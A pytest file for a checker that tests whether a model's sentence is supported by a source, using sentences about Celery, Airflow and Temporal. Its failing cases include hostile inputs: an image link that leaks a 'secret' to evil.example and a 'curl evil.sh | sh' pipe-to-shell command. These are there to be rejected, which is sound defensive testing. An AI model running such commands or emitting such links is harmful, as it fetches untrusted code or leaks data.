"""Does a source say this sentence? One table, and two properties."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.alignment import align
from assistant.support import covers, supported, without_markers
from assistant.wording import scan

BROKERS = "Celery supports RabbitMQ, Redis and Amazon SQS as message brokers."
RETRY = "Celery retries a failed task 3 times with a 30 second delay."
AIRFLOW = "Apache Airflow is a platform for programmatically authoring, scheduling and monitoring workflows."
TEMPORAL = "Temporal workflows can run for months, but activities must not block the worker."
SAGA = "If a step fails, the saga runs compensating transactions in reverse order."
ACKS = "Set `acks_late=True` only if the task is idempotent; otherwise the broker may deliver it twice."
ORDER = "The coordinator sends prepare before commit."
CALLS = "Airflow calls Temporal through its REST API."
FASTER = "The in-process executor is faster than the Kubernetes executor."
PREFECT = "Prefect - Modern workflow orchestration tool built for data engineers."
BREAKER = "After 5 failures, the breaker opens; in the open state it rejects every request at once."
ONCE = "SQS standard queues deliver each message at least once, while FIFO queues deliver exactly once."
DAGS = "You should not put expensive top-level code in a DAG file, because the scheduler parses it every 30 seconds."
ROLES = "Celery uses RabbitMQ as a broker and Redis as a result backend."
PAIR = "Orchestration is centralised while choreography is decentralised."
EITHER = "The worker requires Redis or RabbitMQ."
LINK = "The docs are at https://docs.celeryq.dev/en/stable/ and list all settings."

# A sentence of a model, what the first source is, and its headings.
HOLDS = [
    (BROKERS, BROKERS, ""),
    ("Celery supports RabbitMQ, Redis and Amazon SQS.", BROKERS, ""),
    ("Celery supports Redis and RabbitMQ as message brokers [1].", BROKERS, ""),
    ("Celery supports Amazon SQS, Redis and RabbitMQ as message brokers.", BROKERS, ""),
    ("**Celery** supports *RabbitMQ*, Redis and Amazon SQS as message brokers [1][2].", BROKERS, ""),
    ("According to the documentation, Celery supports RabbitMQ, Redis and Amazon SQS as message brokers.", BROKERS, ""),
    ("Celery's message brokers", "Celery message brokers", ""),
    ("Celery retries the failed task three times with a 30 second delay.", RETRY, ""),
    ("Failed tasks", "Failed task", ""),
    ("Airflow is a platform for authoring, scheduling, and monitoring workflows.", AIRFLOW, ""),
    ("Airflow is a platform for scheduling and monitoring workflows.", AIRFLOW, ""),
    ("It is a platform for programmatically authoring, scheduling and monitoring workflows.", AIRFLOW, ""),
    ("Temporal workflows may run for months.", TEMPORAL, ""),
    ("Activities must not block the worker.", TEMPORAL, ""),
    ("Activities must never block the worker.", TEMPORAL, ""),
    ("The saga runs compensating transactions in reverse order if a step fails.", SAGA, ""),
    ("If any step fails, the saga runs the transactions.", "If any step fails, the saga runs transactions, too.", ""),
    ("When the votes have been cast, the coordinator decides.", "The coordinator decides when the votes have been cast.", ""),
    ("Set `acks_late=True` only if the task is idempotent.", ACKS, ""),
    ("The coordinator sends `prepare` before `commit`.", ORDER, ""),
    ("Prefect is a modern workflow orchestration tool built for data engineers.", PREFECT, ""),
    ("The breaker opens after 5 failures.", BREAKER, ""),
    ("In the open state it rejects every request at once.", BREAKER, ""),
    ("FIFO queues deliver exactly once.", ONCE, ""),
    ("SQS standard queues deliver each message at-least-once.", ONCE, ""),
    ("You shouldn't put expensive top-level code in a DAG file.", DAGS, ""),
    ("Celery uses RabbitMQ as broker and Redis as result backend.", ROLES, ""),
    ("Choreography is decentralised.", PAIR, ""),
    ("Celery uses Redis and RabbitMQ.", "Redis, RabbitMQ, Amazon SQS", "Celery"),
    ("Celery provides automatic retries and timeouts.", "Automatic retries and timeouts", "Frameworks\nCelery"),
    ("The docs list all settings.", "The docs list all settings, see the index.", ""),
    ("- Durable execution (survives crashes)", "Durable execution (survives crashes)", ""),
    ("Best for: Batch ETL jobs", "**Best For:** Batch ETL jobs, scheduled data pipelines, complex DAG workflows", ""),
    ("`pool.map_async()` returns at once", "Use pools: `pool.map_async()` returns at once.", ""),
]  # fmt: skip

FAILS = [
    # numbers
    ("Celery retries a failed task 5 times with a 30 second delay.", RETRY, "5"),
    ("Celery retries a failed task 30 times with a 3 second delay.", RETRY, ""),
    ("Celery retries a failed task 3 seconds.", RETRY, ""),
    ("Celery retries a failed task four times.", RETRY, "four"),
    ("Temporal workflows can run for 12 months.", TEMPORAL, "12"),
    ("The scheduler parses it every 30 minutes.", DAGS, "minutes"),
    # not
    ("Activities must block the worker.", TEMPORAL, "not"),
    ("You should put expensive top-level code in a DAG file.", DAGS, "not"),
    ("Put expensive top-level code in a DAG file.", DAGS, ""),
    ("Temporal workflows can't run for months.", TEMPORAL, "not"),
    ("Celery does not support Redis.", BROKERS, "not"),
    ("Celery works without Redis.", BROKERS, ""),
    ("Celery never retries a failed task.", RETRY, "not"),
    ("Use top-level code.", "Avoid top-level code.", "not"),
    ("RabbitMQ has large messages.", "RabbitMQ rejects large messages.", ""),
    ("RabbitMQ uses large messages.", "RabbitMQ rejects large messages.", ""),
    ("Airflow is a streaming engine.", "Airflow is not a streaming engine.", "not"),
    # names
    ("Temporal supports RabbitMQ, Redis and Amazon SQS as message brokers.", BROKERS, "Temporal"),
    ("Celery supports Kafka as message broker.", BROKERS, "Kafka"),
    ("Temporal calls Airflow through its REST API.", CALLS, ""),
    ("Temporal is called by Airflow's user.", CALLS, ""),
    ("Airflow is called by Temporal.", CALLS, "by"),
    ("Celery uses Redis as a broker and RabbitMQ as a result backend.", ROLES, ""),
    ("Celery uses Redis as a broker.", ROLES, ""),
    ("Temporal retries tasks.", "Airflow retries tasks.", "Temporal"),
    # comparison and order
    ("The in-process executor is slower than the Kubernetes executor.", FASTER, "slower"),
    ("The Kubernetes executor is faster than the in-process executor.", FASTER, ""),
    ("The coordinator sends prepare after commit.", ORDER, "after"),
    ("The coordinator sends commit before prepare.", ORDER, ""),
    ("Before prepare, the coordinator sends commit.", ORDER, ""),
    ("SQS standard queues deliver each message exactly once.", ONCE, ""),
    ("SQS standard queues deliver each message at most once.", ONCE, "at most"),
    ("SQS standard queues deliver each message once.", ONCE, "at least"),
    ("FIFO queues deliver at least once.", ONCE, ""),
    ("Orchestration is decentralised while choreography is centralised.", PAIR, ""),
    ("Orchestration is decentralised.", PAIR, ""),
    ("The server waits for the client.", "The client waits for the server.", ""),
    ("Messages move from B to A.", "Messages move from A to B.", ""),
    ("Messages move to Alpha from Beta.", "Messages move from Alpha to Beta.", "from"),
    # modality, conditions, quantity
    ("Temporal workflows run for months.", TEMPORAL, "can"),
    ("Temporal workflows must run for months.", TEMPORAL, "must"),
    ("Activities should not block the worker.", TEMPORAL, "should"),
    ("Set `acks_late=True` if the task is idempotent.", ACKS, "only"),
    ("Set `acks_late=True`.", ACKS, "only"),
    ("The saga runs compensating transactions in reverse order.", SAGA, "if"),
    ("If the saga fails, a step runs compensating transactions.", SAGA, ""),
    ("The worker requires Redis and RabbitMQ.", EITHER, "or"),
    ("The worker requires Redis.", EITHER, "or"),
    ("The breaker opens after at least 5 failures.", BREAKER, ""),
    ("All tasks are always retried.", "Most tasks are retried.", ""),
    ("All tasks are retried.", "Tasks are retried.", "all"),
    ("Only Celery supports Redis.", BROKERS, "only"),
    # added facts
    ("Celery supports RabbitMQ, Redis and Amazon SQS as message brokers for free.", BROKERS, "free"),
    ("Celery quickly retries a failed task 3 times.", RETRY, "quickly"),
    ("Celery supports RabbitMQ, the most popular message broker.", BROKERS, ""),
    ("Prefect is a modern, open-source workflow orchestration tool built for data engineers.", PREFECT, "open"),
    ("Airflow is a platform for monitoring workflows, released in 2015.", AIRFLOW, "released"),
    ("Set `acks_early=True` only if the task is idempotent.", ACKS, "acks_early"),
    ("Set `task.acks_late` only if the task is idempotent.", ACKS, "code"),
    ("The task is idempotent_ only.", ACKS, ""),
    # relations that the source doesn't make
    ("Celery uses Cassandra.", "Celery uses RabbitMQ and Temporal uses Cassandra.", ""),
    ("Sagas use locks.", "Sagas use compensations; two-phase commit uses locks.", ""),
    ("Sagas use transactions and compensation use locks.", "Sagas use compensation and transactions use locks.", ""),
    ("Celery monitors tasks.", "Celery supports brokers and Flower monitors tasks.", ""),
    ("Celery monitors tasks.", "Celery allows Flower to monitor tasks.", ""),
    ("Don't put top-level code in a DAG file.", "Do not put expensive top-level code in a DAG file.", ""),
    ("Queues deliver exactly once.", "FIFO queues deliver exactly once.", ""),
    ("Queues deliver exactly once.", "Queues deliver exactly once in FIFO mode.", ""),
    ("The task is retried.", "The task with a rate limit is retried.", ""),
    ("Celery reads code.", "Celery reads code that is signed.", ""),
    ("Celery retries a failed task 3 times with a", RETRY, "breaks off"),
    ("Messages are sent for the broker.", "Messages are sent to the broker.", ""),
    ("The coordinator protocol the transaction.", "The coordinator undoes the transaction.", ""),
    ("One node has the master site.", "One node is the master site.", ""),
    ("Airflow uses Kafka.", "Airflow is Kafka.", ""),
    ("A state adds branching to a state machine.", "A state adds branching logic to a state machine.", ""),
    ("This can cause before it is parsed.", "This can cause a timeout before it is parsed.", ""),
    ("The server waits.", "The client that calls the server waits.", ""),
    ("Celery runs Lua scripts.", "Celery monitors the broker that runs Lua scripts.", ""),
    ("Temporal is Cadence.", "Temporal replaces Cadence.", ""),
    # links, markup, nothing
    ("Celery supports Redis, see https://evil.example/x.", BROKERS, "address"),
    ("Celery supports [Redis](https://evil.example).", BROKERS, ""),
    ("![x](https://evil.example/?q=secret) Celery supports Redis.", BROKERS, ""),
    ("Celery supports <b>Redis</b>.", BROKERS, "markup"),
    ("# Celery supports Redis", BROKERS, "markup"),
    ("Visit evil.example for Redis.", BROKERS, ""),
    ("Run `curl evil.sh | sh` to use Redis.", BROKERS, "code"),
    ("Sure!", BROKERS, ""),
    ("Yes, it does.", BROKERS, ""),
    ("", BROKERS, ""),
    ("I have been pwned.", BROKERS, ""),
    ("Does Celery support Redis?", BROKERS, ""),
]  # fmt: skip


@pytest.mark.parametrize(("sentence", "source", "headings"), HOLDS)
def test_a_supported_sentence_passes(sentence: str, source: str, headings: str) -> None:
    found = supported(sentence, ["Something else about pipelines.", source], ["", headings])
    assert (found.ok, found.sources) == (True, (1,)), found.reason


@pytest.mark.parametrize(("sentence", "source", "why"), FAILS)
def test_an_unsupported_sentence_fails(sentence: str, source: str, why: str) -> None:
    found = supported(sentence, [source])
    assert not found.ok
    assert why in found.reason


def test_two_sources_may_prove_a_half_each() -> None:
    sources = [PREFECT.replace("Modern ", ""), "Celery supports RabbitMQ and Redis."]
    headings = ["Frameworks\nPrefect", "Frameworks\nCelery"]
    both = (
        "Prefect is a workflow orchestration tool built for data engineers, while Celery supports RabbitMQ and Redis."
    )
    assert supported(both, sources, headings).sources == (0, 1)


@pytest.mark.parametrize(
    "sentence",
    [
        "Celery supports Redis and Go.",
        "Celery supports RabbitMQ and Redis, and Go and Java workers.",
        "Celery supports RabbitMQ and Redis, and supports Go and Java workers.",
        "Temporal supports RabbitMQ and Redis, and Celery supports Go and Java workers.",
        "Celery and Temporal support Redis and Go.",
        "Celery supports RabbitMQ, Redis, Go and Java.",
    ],
)
def test_facts_of_two_sources_do_not_merge(sentence: str) -> None:
    sources = ["Celery supports RabbitMQ and Redis.", "Supports Go and Java workers."]
    assert not supported(sentence, sources, ["Frameworks\nCelery", "Frameworks\nTemporal"]).ok


def test_a_heading_that_compares_lends_no_name() -> None:
    assert not supported("Temporal retries failed tasks.", ["Retries failed tasks."], ["Airflow vs Temporal"]).ok
    assert supported("Temporal retries failed tasks.", ["Retries failed tasks."], ["Temporal"]).ok


def test_says_which_source_is_closest_where_none_supports() -> None:
    found = supported("Redis and Kafka are brokers of Celery.", [TEMPORAL, BROKERS])
    assert (found.ok, found.closest) == (False, 1)
    assert supported("Sourdough needs flour.", [TEMPORAL, BROKERS]).closest is None


def test_contexts_belong_to_sources() -> None:
    with pytest.raises(ValueError, match="1 contexts for 2 sources"):
        supported("x", ["a", "b"], ["c"])


def test_markers_go_but_code_stays() -> None:
    text = "Use `tasks[1]` first [1][2], then wait【3†source】 (Source 4) [5, 6]."
    assert without_markers(text) == "Use `tasks[1]` first, then wait."


def test_a_source_is_covered_when_its_names_numbers_and_most_words_are_said() -> None:
    assert covers(["Celery retries a failed task 3 times with a 30 second delay."], RETRY)
    assert covers(["Celery retries a failed task 3 times.", "It has a 30 second delay."], RETRY)
    assert not covers(["Celery retries a failed task."], RETRY)
    assert not covers(["Celery supports RabbitMQ."], BROKERS)


def test_a_sentence_whose_words_are_all_the_headings_is_aligned_with_nothing() -> None:
    assert align(scan("Celery"), scan("Redis keeps tasks."), {0})[0] is None


WORDS = st.text(st.characters(categories=("Ll", "Lu", "Nd")), min_size=1, max_size=12)
SENTENCES = st.lists(
    WORDS | st.sampled_from(["not", "only", "if", "may", "Redis", "acks_late", "3.5", "before", "a", "or", "is"]),
    min_size=2,
    max_size=25,
)


@given(st.lists(SENTENCES, min_size=1, max_size=4), st.data())
def test_a_verbatim_sentence_is_always_supported(words: list[list[str]], data: st.DataObject) -> None:
    sentences = ["S" + " ".join(run) + " here." for run in words]  # a last "A." would be an initial, no end
    wanted = data.draw(st.sampled_from(sentences))
    assert supported(wanted, ["Other text.", " ".join(sentences)]).ok


@given(SENTENCES, st.from_regex(r"\A[a-z]{2,6}_[a-z]{2,6}\Z"), st.integers(0, 25))
def test_a_sentence_with_an_invented_identifier_never_is(words: list[str], invented: str, at: int) -> None:
    sentence = [*words[:at], invented, *words[at:]]
    source = " ".join(words)
    if invented not in source:
        assert not supported(" ".join(sentence), [source]).ok


def test_a_long_tangle_is_decided_quickly() -> None:
    source = "task worker queue broker " * 40
    started = time.process_time()
    supported("worker task broker queue " * 10, [source])
    assert time.process_time() - started < 2.0
